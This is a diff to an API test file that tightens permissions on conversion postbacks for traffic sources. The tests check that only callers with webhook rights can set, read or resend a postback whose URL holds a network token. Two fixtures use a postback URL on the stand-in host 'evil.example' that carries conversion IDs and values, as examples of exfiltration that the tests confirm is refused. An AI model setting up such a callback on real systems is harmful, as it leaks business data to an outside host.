@@ -165,24 +165,98 @@ describe("the click-id parameter on the click path", () => {
 });
 
 describe("scopes", () => {
-  it("reads postbacks with catalog.read and resends with catalog.update", async () => {
+  // The postback sends conversion data to a host the caller chooses, as a webhook does: the
+  // catalog's rights alone neither set it, nor read its URL (the network's token), nor resend.
+  const sourceUrl = () => `/api/v1/traffic-sources/${tenant.cat.trafficSourceId}`;
+
+  it("reads postbacks with webhooks.read and resends with webhooks.update; catalog rights alone do neither", async () => {
     const { who, cat } = tenant;
-    const reader = await signInPerson(t, who.tenantId, { name: "Reader", permissions: ["catalog.read"] });
-    const writer = await signInPerson(t, who.tenantId, { name: "Writer", permissions: ["catalog.update"] });
+    const catalogReader = await signInPerson(t, who.tenantId, { name: "Reader", permissions: ["catalog.read"] });
+    const catalogWriter = await signInPerson(t, who.tenantId, { name: "Writer", permissions: ["catalog.update"] });
+    const hookReader = await signInPerson(t, who.tenantId, { name: "Hook reader", permissions: ["webhooks.read"] });
+    const hookWriter = await signInPerson(t, who.tenantId, { name: "Hook writer", permissions: ["webhooks.update"] });
     const outsider = await signInPerson(t, who.tenantId, { name: "Outsider", permissions: ["reports.read"] });
-    expect((await getPostbacks(t, reader.bearer, cat.trafficSourceId)).statusCode).toBe(200);
-    expect((await getPostbacks(t, outsider.bearer, cat.trafficSourceId)).statusCode).toBe(403);
+    expect((await getPostbacks(t, hookReader.bearer, cat.trafficSourceId)).statusCode).toBe(200);
+    for (const caller of [catalogReader, catalogWriter, outsider]) {
+      const refused = await getPostbacks(t, caller.bearer, cat.trafficSourceId);
+      expect(refused.statusCode).toBe(403);
+      expect(refused.json().message).toBe("Missing permission 'webhooks.read'");
+    }
     const attempts = await t.call({
       method: "GET",
       url: `/api/v1/traffic-sources/${cat.trafficSourceId}/postbacks/tsp_x/attempts`,
-      headers: { authorization: reader.bearer },
+      headers: { authorization: hookReader.bearer },
     });
     expect(attempts.statusCode).toBe(404);
-    // 403 before any lookup; with the right, the unknown postback is a 404.
-    expect((await resendPostback(t, reader.bearer, cat.trafficSourceId, "tsp_x")).statusCode).toBe(403);
-    expect((await resendPostback(t, writer.bearer, cat.trafficSourceId, "tsp_x")).statusCode).toBe(404);
-    const patch = await patchSource(t, reader.bearer, cat.trafficSourceId, { postback: null });
-    expect(patch.statusCode).toBe(403);
-    expect((await getPostbacks(t, reader.bearer, 999_999_999)).statusCode).toBe(404);
+    // 403 before any lookup, whatever the postback's status; with the right, the unknown postback is a 404.
+    for (const caller of [catalogWriter, hookReader]) {
+      const refused = await resendPostback(t, caller.bearer, cat.trafficSourceId, "tsp_x");
+      expect(refused.statusCode).toBe(403);
+      expect(refused.json().message).toBe("Missing permission 'webhooks.update'");
+    }
+    expect((await resendPostback(t, hookWriter.bearer, cat.trafficSourceId, "tsp_x")).statusCode).toBe(404);
+    expect((await getPostbacks(t, hookReader.bearer, 999_999_999)).statusCode).toBe(404);
+  });
+
+  it("sets or removes a postback only with webhooks.update, on create and on change", async () => {
+    const { who, cat } = tenant;
+    const catalogWriter = await signInPerson(t, who.tenantId, {
+      name: "Catalog writer",
+      permissions: ["catalog.read", "catalog.update"],
+    });
+    const both = await signInPerson(t, who.tenantId, {
+      name: "Postback writer",
+      permissions: ["catalog.update", "webhooks.update"],
+    });
+    for (const postback of [{ url: "https://evil.example/pb?c=${conversionId}&v=${value}" }, null]) {
+      const patch = await patchSource(t, catalogWriter.bearer, cat.trafficSourceId, { postback });
+      expect(patch.statusCode, patch.body).toBe(403);
+      expect(patch.json().message).toBe("Missing permission 'webhooks.update'");
+    }
+    const create = await t.call({
+      method: "POST",
+      url: "/api/v1/traffic-sources",
+      headers: { authorization: catalogWriter.bearer },
+      payload: { name: "Exfiltration", postback: { url: "https://evil.example/pb?c=${conversionId}" } },
+    });
+    expect(create.statusCode, create.body).toBe(403);
+    const names = await t.ctx.db.query("select 1 from traffic_sources where name = 'Exfiltration'");
+    expect(names).toHaveLength(0);
+    // The rest of the source stays the catalog's: a rename needs no webhook right.
+    expect((await patchSource(t, catalogWriter.bearer, cat.trafficSourceId, { name: "Renamed" })).statusCode).toBe(200);
+
+    const set = await patchSource(t, both.bearer, cat.trafficSourceId, { postback: { url: URL_OK, enabled: false } });
+    expect(set.statusCode, set.body).toBe(200);
+    // webhooks.update without webhooks.read: saved, but the answer does not show it back.
+    expect(set.json().data).not.toHaveProperty("postback");
+    const [row] = await t.ctx.db.query<{ postback: { url: string } }>(
+      "select postback from traffic_sources where id = $1",
+      [cat.trafficSourceId],
+    );
+    expect(row?.postback.url).toBe(URL_OK);
+    await patchSource(t, who, cat.trafficSourceId, { postback: null });
+  });
+
+  it("shows the postback (its URL carries the network's token) only to a caller with webhooks.read", async () => {
+    const { who, cat } = tenant;
+    await patchSource(t, who, cat.trafficSourceId, { postback: { url: URL_OK, enabled: false } });
+    const catalogOnly = await signInPerson(t, who.tenantId, { name: "Catalog only", permissions: ["catalog.read"] });
+    const reader = await signInPerson(t, who.tenantId, {
+      name: "Catalog and hooks",
+      permissions: ["catalog.read", "webhooks.read"],
+    });
+    const read = (caller: { bearer: string }, url: string) =>
+      t.call({ method: "GET", url, headers: { authorization: caller.bearer } });
+    const one = await read(catalogOnly, sourceUrl());
+    expect(one.statusCode).toBe(200);
+    expect(one.json().data).toMatchObject({ id: cat.trafficSourceId, clickIdParam: null });
+    expect(one.json().data).not.toHaveProperty("postback");
+    expect(one.body).not.toContain("network.example");
+    const list = await read(catalogOnly, "/api/v1/traffic-sources");
+    expect(list.statusCode).toBe(200);
+    expect(list.body).not.toContain("network.example");
+    for (const item of list.json().data) expect(item).not.toHaveProperty("postback");
+    expect((await read(reader, sourceUrl())).json().data.postback).toMatchObject({ url: URL_OK, enabled: false });
+    await patchSource(t, who, cat.trafficSourceId, { postback: null });
   });
 });
